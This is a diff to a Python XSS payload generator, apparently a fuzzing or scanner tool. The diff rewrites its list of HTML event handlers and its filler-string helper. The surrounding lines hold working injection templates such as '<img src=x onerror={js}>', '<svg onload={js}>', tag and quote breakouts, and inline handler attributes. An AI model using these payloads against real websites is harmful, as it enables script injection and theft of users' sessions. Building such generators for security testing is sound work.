@@ -41,50 +41,12 @@ OUT = """
 </script>|</title>|</style>|</textarea>|</noscript>|</xmp>|</template>|</table>|</td></tr></table>|</pre>|</code>|</svg>|</p></div>|</select>|-->|]]>|"|'|">|'>|"/>|`|\\">|\\'>
 """.strip()
 
-HANDLERS = [
-    "onabort",
-    "onanimationend",
-    "onauxclick",
-    "onbeforeinput",
-    "onbeforematch",
-    "onblur",
-    "oncanplay",
-    "onclick",
-    "oncontextmenu",
-    "oncopy",
-    "oncuechange",
-    "ondblclick",
-    "ondragstart",
-    "onerror",
-    "onfocus",
-    "onfocusin",
-    "onhashchange",
-    "oninput",
-    "onkeydown",
-    "onload",
-    "onmessage",
-    "onmouseenter",
-    "onmouseover",
-    "onmousewheel",
-    "onpageshow",
-    "onpaste",
-    "onpointerdown",
-    "onpointerrawupdate",
-    "onpopstate",
-    "onresize",
-    "onscroll",
-    "onscrollend",
-    "onsearch",
-    "onselect",
-    "onshow",
-    "onsubmit",
-    "ontoggle",
-    "ontouchstart",
-    "ontransitionend",
-    "onunload",
-    "onwheel",
-    "onwebkitanimationend",
-]
+HANDLERS = """
+abort|animationend|auxclick|beforeinput|beforematch|blur|canplay|click|contextmenu|copy|cuechange|dblclick
+dragstart|error|focus|focusin|hashchange|input|keydown|load|message|mouseenter|mouseover|mousewheel|pageshow
+paste|pointerdown|pointerrawupdate|popstate|resize|scroll|scrollend|search|select|show|submit|toggle
+touchstart|transitionend|unload|wheel|webkitanimationend
+""".strip()
 
 JAVASCRIPT = """
 ";{js};//|';{js};//|`;{js};//|${{{js}}}|\\";{js};//|\\';{js};//|</script><script>{js}//|⏎{js}//|*/{js}/*|"-{js}-"|'-{js}-'|"+{js}+"|\u2028{js}//|\u2029{js}//
@@ -143,12 +105,8 @@ def _split(block: str) -> list[str]:
 
 
 def _filled(text: str, act: str) -> str:
-    more = {
-        "zalgo": "z" + "\u0335\u0347\u0321" * 60,
-        "long": "W" * 5_000,
-        "deep": "<div>" * 400,
-        "longname": "n" * 400,
-    }
+    zalgo = "z" + "\u0335\u0347\u0321" * 60
+    more = {"zalgo": zalgo, "long": "W" * 5_000, "deep": "<div>" * 400, "longname": "n" * 400}
     try:
         return text.format(js=act, far=FAR, **more)
     except (IndexError, KeyError, ValueError, AttributeError):
@@ -166,8 +124,8 @@ def _all() -> list[str]:
         product(_split(OUT), ("<script>{js}</script>", "<img src=x onerror={js}>", "<svg onload={js}>"))
     ):
         found.append(way_out + _filled(run, ACTS[at % len(ACTS)]))
-    for at, (quote, handler) in enumerate(product(('"', "'", ""), HANDLERS)):
-        found.append(f"x{quote} {handler}={quote}{ACTS[at % len(ACTS)]}{quote} tabindex=1 x={quote}")
+    for at, (quote, handler) in enumerate(product(('"', "'", ""), _split(HANDLERS))):
+        found.append(f"x{quote} on{handler}={quote}{ACTS[at % len(ACTS)]}{quote} tabindex=1 x={quote}")
     return list(dict.fromkeys(found))
 
 
